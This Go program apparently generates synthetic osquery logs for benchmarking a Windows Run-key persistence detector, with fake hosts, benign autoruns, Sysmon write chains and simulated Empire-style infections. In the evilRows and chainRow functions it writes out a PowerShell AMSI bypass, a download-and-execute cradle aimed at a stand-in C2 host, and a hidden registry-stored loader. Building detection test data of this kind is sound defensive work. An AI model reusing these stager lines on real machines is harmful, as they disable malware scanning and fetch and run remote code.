// Command genlogs writes synthetic osquery result logs of the runkeyhunt
// queries for a fleet, for benchmarks and demos: weekly inventory
// snapshots, daily Sysmon write-chain diffs (event and batch formats, with
// removals when the Sysmon log rolls over), and Empire-style findings on a
// few hosts, half of them remediated later.
//
//	go run ./fleet/cmd/genlogs -hosts 10000 -days 30 -out /tmp/fleetlogs
package main

import (
	"bufio"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"time"
	"unicode/utf16"
)

func main() {
	hosts := flag.Int("hosts", 10000, "number of hosts")
	days := flag.Int("days", 30, "days of logs")
	out := flag.String("out", "", "output directory (required)")
	seed := flag.Uint64("seed", 1, "random seed")
	gz := flag.Bool("gzip-oldest", false, "gzip the oldest rotated file")
	flag.Parse()
	if *out == "" || *hosts <= 0 || *days <= 0 {
		flag.Usage()
		os.Exit(2)
	}
	if err := generate(*out, *hosts, *days, *seed, *gz); err != nil {
		fmt.Fprintln(os.Stderr, "genlogs:", err)
		os.Exit(1)
	}
}

var start = time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)

type host struct {
	id, name, uuid, sid, user string
	batch                     bool
	autoruns                  []map[string]string
	record                    int
	evil                      int // 0 none, 1 Empire (remediated later if even index), 2 suspicious
	evilDay                   int
	chainLive                 []map[string]string
}

var benignPool = []struct{ key, name, data, loc, scope string }{
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`, "run", "machine"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "VMware User Process", `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`, "run", "machine"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "RTHDVCPL", `"C:\Program Files\Realtek\Audio\HDA\RtkNGUI64.exe" -s`, "run", "machine"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run`, "Adobe ARM", `"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe"`, "run_wow64", "machine"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, "Shell", `explorer.exe`, "winlogon_shell", "machine"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, "Userinit", `C:\Windows\system32\userinit.exe,`, "winlogon_userinit", "machine"},
	{`HKEY_USERS\%SID%\Software\Microsoft\Windows\CurrentVersion\Run`, "OneDrive", `"C:\Users\%USER%\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`, "run", "user"},
	{`HKEY_USERS\%SID%\Software\Microsoft\Windows\CurrentVersion\Run`, "com.squirrel.Teams.Teams", `"C:\Users\%USER%\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"`, "run", "user"},
	{`HKEY_USERS\%SID%\Software\Microsoft\Windows\CurrentVersion\Run`, "Spotify", `"C:\Users\%USER%\AppData\Roaming\Spotify\Spotify.exe" --autostart --minimized`, "run", "user"},
	{`HKEY_USERS\%SID%\Software\Microsoft\Windows\CurrentVersion\Run`, "Zoom", `"C:\Users\%USER%\AppData\Roaming\Zoom\bin\Zoom.exe" --autostart`, "run", "user"},
	{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "GoogleUpdate", `"C:\Program Files (x86)\Google\Update\1.3.36.372\GoogleUpdateCore.exe"`, "run", "machine"},
}

var writers = []struct{ image, target, remote, hostname string }{
	{`C:\Users\%USER%\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "OneDrive", "13.107.42.12:443", "oneclient.sfx.ms"},
	{`C:\Users\%USER%\AppData\Local\Microsoft\Teams\Update.exe`, "com.squirrel.Teams.Teams", "52.113.194.132:443", "teams.microsoft.com"},
	{`C:\Windows\System32\msiexec.exe`, "GoogleUpdate", "", ""},
	{`C:\Windows\explorer.exe`, "Spotify", "", ""},
	{`C:\Users\%USER%\AppData\Roaming\Zoom\bin\Zoom.exe`, "Zoom", "170.114.52.2:443", "zoom.us"},
}

func replace(s string, h *host) string {
	r := []rune{}
	_ = r
	out := s
	for _, kv := range [][2]string{{"%SID%", h.sid}, {"%USER%", h.user}} {
		for {
			i := indexOf(out, kv[0])
			if i < 0 {
				break
			}
			out = out[:i] + kv[1] + out[i+len(kv[0]):]
		}
	}
	return out
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func utf16b64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func autorunRow(h *host, key, name, data, loc, scope, verdict string, score int, indicators, kind, ppath, preview string) map[string]string {
	sid, user := "", ""
	if scope == "user" {
		sid, user = h.sid, h.user
	}
	return map[string]string{
		"key": key, "path": key + `\` + name, "name": name, "data": data, "mtime": "1740787200",
		"location": loc, "scope": scope, "sid": sid, "username": user, "enabled": "1", "image": "",
		"payload_kind": kind, "payload_path": ppath, "payload_exists": map[bool]string{true: "1", false: "0"}[kind != ""],
		"payload_sha256": "", "payload_encoding": "", "payload_preview": preview,
		"indicators": indicators, "score": strconv.Itoa(score), "verdict": verdict,
	}
}

func newHost(i int, rng *rand.Rand, days int) *host {
	h := &host{
		id:    fmt.Sprintf("WS%05d", i),
		name:  fmt.Sprintf("ws%05d.corp.example", i),
		uuid:  fmt.Sprintf("%08X-0000-4000-8000-%012X", i, rng.Uint64()&0xFFFFFFFFFFFF),
		sid:   fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", 1000+i),
		user:  fmt.Sprintf("user%05d", i),
		batch: i%3 == 0,
	}
	for j, b := range benignPool {
		if j >= 6 && rng.IntN(3) == 0 {
			continue // user apps vary between hosts
		}
		if j == 9 && rng.IntN(50) != 0 {
			continue // Zoom is rare
		}
		h.autoruns = append(h.autoruns, autorunRow(h, replace(b.key, h), b.name, replace(b.data, h), b.loc, b.scope, "benign", 0, "", "", "", ""))
	}
	if i%2500 == 1234 { // one host's own tray helper: rare in the fleet, benign on the host
		h.autoruns = append(h.autoruns, autorunRow(h, `HKEY_USERS\`+h.sid+`\Software\Microsoft\Windows\CurrentVersion\Run`, "Helper",
			fmt.Sprintf(`"C:\Users\%s\AppData\Roaming\Helper%d\helper.exe" --tray`, h.user, i), "run", "user", "benign", 0, "", "", "", ""))
	}
	switch {
	case i%100 == 7:
		h.evil, h.evilDay = 1, rng.IntN(days)
	case i%200 == 11:
		h.evil, h.evilDay = 2, rng.IntN(days)
	}
	return h
}

func (h *host) evilRows() []map[string]string {
	ucv := `HKEY_USERS\` + h.sid + `\Software\Microsoft\Windows\CurrentVersion`
	switch h.evil {
	case 1:
		stager := "$r=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$r.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true);$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('http://c2.example.invalid/admin/get.php?h=" + h.id + "')"
		loader := `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`
		r := autorunRow(h, ucv+`\Run`, "Updater", loader, "run", "user", "malicious", 100,
			"amsi_bypass,download_cradle,encoded_command,hidden_window,invoke_expression,registry_payload", "registry", ucv+`\Debug`, stager)
		r["image"] = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		r["payload_encoding"] = "base64/utf16le"
		return []map[string]string{r}
	case 2:
		r := autorunRow(h, ucv+`\Run`, "upd", `powershell.exe -nop -w hidden -File C:\Users\`+h.user+`\AppData\Roaming\upd.ps1`, "run", "user", "suspicious", 40,
			"hidden_window,no_profile,script_file_payload,user_writable_image", "file", `C:\Users\`+h.user+`\AppData\Roaming\upd.ps1`, "Start-Process notepad.exe")
		return []map[string]string{r}
	}
	return nil
}

func (h *host) chainRow(rng *rand.Rand, t time.Time, evil bool) map[string]string {
	h.record++
	w := writers[rng.IntN(len(writers))]
	image, target, remote, rhost := replace(w.image, h), w.target, w.remote, w.hostname
	details := `"` + image + `" --autostart`
	verdict, score, indicators := "benign", "0", ""
	before, after := 0, 0
	if remote != "" {
		before, after = rng.IntN(3), rng.IntN(3)
	}
	if evil {
		image = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		target, remote, rhost = "Updater", "203.0.113.7:80", "c2.example.invalid"
		details = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`
		verdict, score, indicators = "malicious", "100", "encoded_command,hidden_window,network_after_write,network_before_write,registry_payload,two_stage_write"
		before, after = 2, 2
	}
	addrs, names := "", ""
	if before+after > 0 {
		addrs, names = remote, rhost
	}
	secs := func(n int) string {
		if n == 0 {
			return "-1"
		}
		return strconv.FormatFloat(float64(rng.IntN(120000))/1000, 'f', 3, 64)
	}
	return map[string]string{
		"time": strconv.FormatInt(t.Unix(), 10), "datetime": t.Format("2006-01-02T15:04:05.000Z"), "utc_time": t.Format("2006-01-02 15:04:05.000"),
		"computer": h.name, "record_id": strconv.Itoa(h.record), "event_id": "13", "event_type": "SetValue",
		"process_guid": fmt.Sprintf("{%08x-1b2c-6600-0000-0010%08x}", rng.Uint32(), h.record), "process_id": strconv.Itoa(1000 + rng.IntN(9000)),
		"image": image, "user": `CORP\` + h.user,
		"target_object": `HKU\` + h.sid + `\Software\Microsoft\Windows\CurrentVersion\Run\` + target,
		"path":          `HKEY_USERS\` + h.sid + `\Software\Microsoft\Windows\CurrentVersion\Run\` + target,
		"details":       details, "role": "autorun", "location": "run", "linked_record_id": "0",
		"net_before": strconv.Itoa(before), "net_after": strconv.Itoa(after), "seconds_before": secs(before), "seconds_after": secs(after),
		"remote_addresses": addrs, "remote_hostnames": names, "indicators": indicators, "score": score, "verdict": verdict, "window": "300",
	}
}

type envelope struct {
	Name           string              `json:"name"`
	HostIdentifier string              `json:"hostIdentifier"`
	CalendarTime   string              `json:"calendarTime"`
	UnixTime       int64               `json:"unixTime"`
	Epoch          int                 `json:"epoch"`
	Counter        int                 `json:"counter"`
	Numerics       bool                `json:"numerics"`
	Decorations    map[string]string   `json:"decorations"`
	Columns        map[string]string   `json:"columns,omitempty"`
	DiffResults    *diff               `json:"diffResults,omitempty"`
	Snapshot       []map[string]string `json:"snapshot,omitempty"`
	Action         string              `json:"action,omitempty"`
}

type diff struct {
	Added   []map[string]string `json:"added"`
	Removed []map[string]string `json:"removed"`
}

func (h *host) env(name string, t time.Time, counter int) envelope {
	pack := "pack/runkeyhunt/"
	if h.batch {
		pack = "pack/Global/"
	}
	return envelope{Name: pack + name, HostIdentifier: h.uuid, CalendarTime: t.Format("Mon Jan _2 15:04:05 2006 UTC"), UnixTime: t.Unix(),
		Counter: counter, Decorations: map[string]string{"host_uuid": h.uuid, "hostname": h.name}}
}

func generate(dir string, nHosts, days int, seed uint64, gz bool) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	rng := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	hosts := make([]*host, nHosts)
	for i := range hosts {
		hosts[i] = newHost(i, rng, days)
	}
	// Three rotated files, oldest first: .2 (optionally gzipped), .1, live.
	names := []string{"osqueryd.results.log.2", "osqueryd.results.log.1", "osqueryd.results.log"}
	var total int
	for part, name := range names {
		path := filepath.Join(dir, name)
		if part == 0 && gz {
			path += ".gz"
		}
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		var w io.Writer = f
		var zw *gzip.Writer
		if part == 0 && gz {
			zw = gzip.NewWriter(f)
			w = zw
		}
		bw := bufio.NewWriterSize(w, 1<<20)
		enc := json.NewEncoder(bw)
		enc.SetEscapeHTML(false)
		lo, hi := part*days/len(names), (part+1)*days/len(names)
		for day := lo; day < hi; day++ {
			for _, h := range hosts {
				n, err := h.day(enc, rng, day)
				if err != nil {
					return err
				}
				total += n
			}
		}
		if err := bw.Flush(); err != nil {
			return err
		}
		if zw != nil {
			if err := zw.Close(); err != nil {
				return err
			}
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	fmt.Fprintf(os.Stderr, "genlogs: %d hosts, %d days, %d lines in %s\n", nHosts, days, total, dir)
	return nil
}

// day writes one host's lines for one day and returns how many.
func (h *host) day(enc *json.Encoder, rng *rand.Rand, day int) (int, error) {
	base := start.Add(time.Duration(day)*24*time.Hour + time.Duration(rng.IntN(3600*20))*time.Second)
	lines := 0
	write := func(e envelope) error { lines++; return enc.Encode(e) }
	inventory := h.autoruns
	evilActive := h.evil != 0 && day >= h.evilDay && !(h.evil == 1 && h.id[len(h.id)-1]%2 == 0 && day >= h.evilDay+5)
	if evilActive {
		inventory = append(append([]map[string]string{}, h.autoruns...), h.evilRows()...)
	}
	if day%7 == 0 {
		e := h.env("runkeyhunt_autorun_inventory", base, day)
		e.Snapshot, e.Action = inventory, "snapshot"
		if err := write(e); err != nil {
			return lines, err
		}
	}
	// Findings (differential): added the day the persistence lands,
	// removed when it is remediated.
	if h.evil != 0 && (day == h.evilDay || (h.evil == 1 && h.id[len(h.id)-1]%2 == 0 && day == h.evilDay+5)) {
		action := "added"
		if day != h.evilDay {
			action = "removed"
		}
		for _, r := range h.evilRows() {
			e := h.env("runkeyhunt_autorun_findings", base.Add(time.Hour), day+1)
			e.Columns, e.Action = r, action
			if err := write(e); err != nil {
				return lines, err
			}
		}
	}
	// Sysmon chain (differential): new writes, and old ones dropping out
	// of the rolling log.
	var added, removed []map[string]string
	for k := 0; k < 3; k++ {
		added = append(added, h.chainRow(rng, base.Add(time.Duration(k)*time.Minute), false))
	}
	if h.evil == 1 && day == h.evilDay {
		// Two-stage write: the payload value first, then the loader that
		// reads it, each linked to the other.
		payload := h.chainRow(rng, base.Add(20*time.Second), true)
		loader := h.chainRow(rng, base.Add(30*time.Second), true)
		debug := `\Software\Microsoft\Windows\CurrentVersion\Debug`
		payload["role"], payload["path"], payload["target_object"] = "payload", `HKEY_USERS\`+h.sid+debug, `HKU\`+h.sid+debug
		payload["details"], payload["net_after"], payload["seconds_after"] = utf16b64("$r=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"), "0", "-1"
		payload["linked_record_id"], loader["linked_record_id"] = loader["record_id"], payload["record_id"]
		added = append(added, payload, loader)
	}
	if len(h.chainLive) > 20 {
		removed, h.chainLive = h.chainLive[:1], h.chainLive[1:]
	}
	h.chainLive = append(h.chainLive, added...)
	t := base.Add(15 * time.Minute)
	if h.batch {
		e := h.env("runkeyhunt_autorun_write_chain", t, day+1)
		e.DiffResults = &diff{Added: added, Removed: removed}
		if removed == nil {
			e.DiffResults.Removed = []map[string]string{}
		}
		return lines, write(e)
	}
	for _, r := range removed {
		e := h.env("runkeyhunt_autorun_write_chain", t, day+1)
		e.Columns, e.Action = r, "removed"
		if err := write(e); err != nil {
			return lines, err
		}
	}
	for _, r := range added {
		e := h.env("runkeyhunt_autorun_write_chain", t, day+1)
		e.Columns, e.Action = r, "added"
		if err := write(e); err != nil {
			return lines, err
		}
	}
	return lines, nil
}
